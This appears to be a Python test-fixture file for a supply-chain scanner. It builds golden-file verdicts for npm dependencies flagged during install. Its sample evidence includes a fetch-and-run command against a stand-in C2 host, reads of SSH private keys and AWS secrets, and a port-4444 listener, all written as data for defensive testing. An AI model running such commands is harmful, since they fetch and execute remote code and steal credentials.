"""Verdicts to render, one a case; golden files in golden/ are named after them."""

from datetime import UTC, date, datetime

from scangate.models.analysis import Analysed, Engine, OutcomeCode, Phase, Shortfall
from scangate.models.changes import Change, ChangeKind, Compared
from scangate.models.lockfile import Dependency, Ecosystem, Kind, LockFact, Lockfile, Relation, Scope
from scangate.models.observations import (
    BaitSeen,
    CommandRun,
    FileTouched,
    HostContacted,
    LastPyMileHit,
    Network,
    PackagePresent,
    SocketOpened,
)
from scangate.models.verdict import (
    Action,
    Allowed,
    DecidedBy,
    DecidedShortfall,
    Decider,
    Finding,
    LockfileVerdict,
    Mode,
    NoticeCode,
    OutcomeAction,
    PolicyNotice,
    Severity,
    Status,
    Subject,
    SubjectVerdict,
    Verdict,
)

LOCK = "web/package-lock.json"


def dependency(
    name: str, version: str, *, line: int, path: tuple[str, ...] = (), kind: Kind = Kind.REGISTRY
) -> Dependency:
    return Dependency(
        ecosystem=Ecosystem.NPM,
        name=name,
        version=version,
        kind=kind,
        purl=f"pkg:npm/{name}@{version}" if kind is Kind.REGISTRY else None,
        registry="registry.example" if kind is Kind.REGISTRY else None,
        integrity=("sha512:" + "ab" * 64,),
        scope=Scope.PROD,
        relation=Relation.TRANSITIVE if len(path) > 1 else Relation.DIRECT,
        path=path,
        lockfile=LOCK,
        line=line,
    )


def subject(entry: Dependency, *results: Analysed | Shortfall) -> Subject:
    return Subject(
        key=entry.purl or f"{entry.kind}:npm/{entry.name}@{entry.version}",
        ecosystem=entry.ecosystem,
        name=entry.name,
        version=entry.version,
        purl=entry.purl,
        dependencies=(entry,),
        results=results,
    )


def finding(rule: str, *evidence: object, action: Action = Action.DENY, allowed: Allowed | None = None) -> Finding:
    return Finding(
        rule=rule,
        title="Contacts an unknown host while being installed",
        severity=Severity.HIGH,
        action=action,
        decided_by=DecidedBy(),
        evidence=evidence,  # type: ignore[arg-type]  # tests hand in what each case needs
        description="Install scripts have no reason to talk to a host that nobody knows.",
        advice="Do not merge. Stay on the version that you have and tell your security team.",
        engine=Engine.DYNAMIC_ANALYSIS,
        allowed=allowed,
    )


EVIDENCE = (
    HostContacted(phase=Phase.INSTALL, host="c2.example", via=("dns", "socket"), record_types=("A", "TXT")),
    SocketOpened(phase=Phase.INSTALL, address="203.0.113.7", port=8080, network=Network.PUBLIC),
    SocketOpened(phase=Phase.IMPORT, address="0.0.0.0", port=4444, network=Network.ANY),
    CommandRun(phase=Phase.INSTALL, argv=("sh", "-c", "curl https://c2.example/x | sh")),
    FileTouched(phase=Phase.IMPORT, path="/root/.ssh/id_rsa", read=True, write=False, delete=False),
    FileTouched(phase=Phase.EXECUTE, path="/root/.bashrc", read=True, write=True, delete=True),
    BaitSeen(phase=Phase.INSTALL, bait="AWS_SECRET_ACCESS_KEY", where="argv", encoding="base64", context="curl -d ***"),
    LastPyMileHit(
        release="a.whl", list="high_risk", file="a/__init__.py", test_id="B102", test_name="exec", line=3, added=True
    ),
    LastPyMileHit(release="a.whl", list="phantom", file="a/extra.py"),
    LockFact(check="confusion", detail="The name belongs to npm.acme.example and comes from elsewhere."),
    PackagePresent(name="left-pad", version=None),
)
"""One of each kind, so that no kind is forgotten in a renderer."""

ANALYSED = Analysed(
    engine=Engine.DYNAMIC_ANALYSIS,
    observations=EVIDENCE[:1],
    created=datetime(2026, 3, 31, 2, 0, tzinfo=UTC),
    task_id=456,
)


def pending(code: OutcomeCode, action: OutcomeAction, detail: str = "") -> DecidedShortfall:
    shortfall = Shortfall(code=code, detail=detail, engine=Engine.DYNAMIC_ANALYSIS, task_id=457)
    return DecidedShortfall(shortfall=shortfall, action=action, decided_by=DecidedBy())


BLOCKED_ITEM = SubjectVerdict(
    subject=subject(
        dependency("plain-crypto-js", "4.2.1", line=412, path=("axios@1.14.1", "plain-crypto-js@4.2.1")), ANALYSED
    ),
    status=Status.BLOCKED,
    findings=(finding("net-on-install", *EVIDENCE), finding("net-note", EVIDENCE[0], action=Action.NOTE)),
)
CLEAN_ITEM = SubjectVerdict(
    subject=subject(dependency("axios", "1.14.1", line=12, path=("axios@1.14.1",)), ANALYSED), status=Status.PASSED
)
PENDING_ITEM = SubjectVerdict(
    subject=subject(dependency("sharp", "0.35.0", line=80), Shortfall(code=OutcomeCode.PENDING)),
    status=Status.INCOMPLETE,
    shortfalls=(pending(OutcomeCode.PENDING, OutcomeAction.FAIL, "Task 457 was processing."),),
)
PRIVATE_ITEM = SubjectVerdict(
    subject=subject(dependency("@acme/ui", "3.0.0", line=99, kind=Kind.PRIVATE_REGISTRY)),
    status=Status.WARNED,
    shortfalls=(pending(OutcomeCode.PRIVATE_REGISTRY, OutcomeAction.WARN),),
)
ALLOWED_ITEM = SubjectVerdict(
    subject=subject(dependency("esbuild", "0.25.1", line=50), ANALYSED),
    status=Status.PASSED,
    findings=(
        finding(
            "net-on-install",
            EVIDENCE[0],
            allowed=Allowed(reason="fetches its own binary", expires=date(2027, 6, 30), where="scangate.yml:12"),
        ),
    ),
)
UPGRADED = Change(
    kind=ChangeKind.UPGRADED,
    dependency=dependency("axios", "1.14.1", line=12, path=("axios@1.14.1",)),
    before=dependency("axios", "1.14.0", line=11, path=("axios@1.14.0",)),
)
UPGRADED_ITEM = SubjectVerdict(
    subject=subject(UPGRADED.dependency, ANALYSED)._replace(changes=(UPGRADED,)),
    status=Status.BLOCKED,
    findings=(
        finding("acme-no-upgrade", EVIDENCE[0])._replace(
            where="scangate.yml:30",
            decided_by=DecidedBy(Decider.OVERRIDE, "scangate.yml:41"),
            references=("https://docs.example/no-upgrade",),
        ),
    ),
)
SCOPE_CHANGE = Change(
    kind=ChangeKind.SCOPE,
    dependency=dependency("left-pad", "1.3.0", line=70),
    before=dependency("left-pad", "1.3.0", line=68)._replace(scope=Scope.DEV),
)
LOCKFILE_ITEM = LockfileVerdict(
    lockfile=Lockfile(path=LOCK, format="npm-package-lock", dependencies=(dependency("axios", "1.14.1", line=12),)),
    status=Status.PASSED,
)
UNSUPPORTED_ITEM = LockfileVerdict(
    lockfile=Lockfile(path="pnpm-lock.yaml", format="pnpm-lock", supported=False),
    status=Status.INCOMPLETE,
    shortfalls=(pending(OutcomeCode.UNSUPPORTED_LOCKFILE, OutcomeAction.FAIL),),
)


def verdict(
    status: Status,
    *subjects: SubjectVerdict,
    lockfiles: tuple[LockfileVerdict, ...] = (LOCKFILE_ITEM,),
    mode: Mode = Mode.ENFORCE,
    notices: tuple[PolicyNotice, ...] = (),
) -> Verdict:
    return Verdict(
        status=status,
        mode=mode,
        subjects=subjects,
        lockfiles=lockfiles,
        notices=notices,
        policy="scangate.yml",
        analyser="https://service.example",
        elapsed_seconds=12.34,
    )


CASES: dict[str, Verdict] = {
    "passed": verdict(Status.PASSED, CLEAN_ITEM),
    "blocked": verdict(Status.BLOCKED, BLOCKED_ITEM, CLEAN_ITEM),
    "blocked-and-incomplete": verdict(
        Status.BLOCKED, BLOCKED_ITEM, CLEAN_ITEM, PENDING_ITEM, lockfiles=(LOCKFILE_ITEM, UNSUPPORTED_ITEM)
    ),
    "incomplete": verdict(Status.INCOMPLETE, CLEAN_ITEM, PENDING_ITEM),
    "warned": verdict(
        Status.WARNED,
        PRIVATE_ITEM,
        SubjectVerdict(
            subject=CLEAN_ITEM.subject,
            status=Status.WARNED,
            findings=(finding("net-ip-echo", EVIDENCE[0], action=Action.WARN),),
        ),
    ),
    "allowed": verdict(
        Status.PASSED,
        ALLOWED_ITEM,
        notices=(
            PolicyNotice(
                code=NoticeCode.ALLOW_EXPIRED, message="The entry for pkg:npm/a@1 has expired.", where="scangate.yml:20"
            ),
        ),
    ),
    "observe": verdict(Status.BLOCKED, BLOCKED_ITEM, mode=Mode.OBSERVE),
    "changes": verdict(Status.BLOCKED, UPGRADED_ITEM)._replace(
        compared=Compared(commit="1f" * 20, why="where 0123456789ab left origin/main"),
        scope_changes=(SCOPE_CHANGE,),
    ),
}
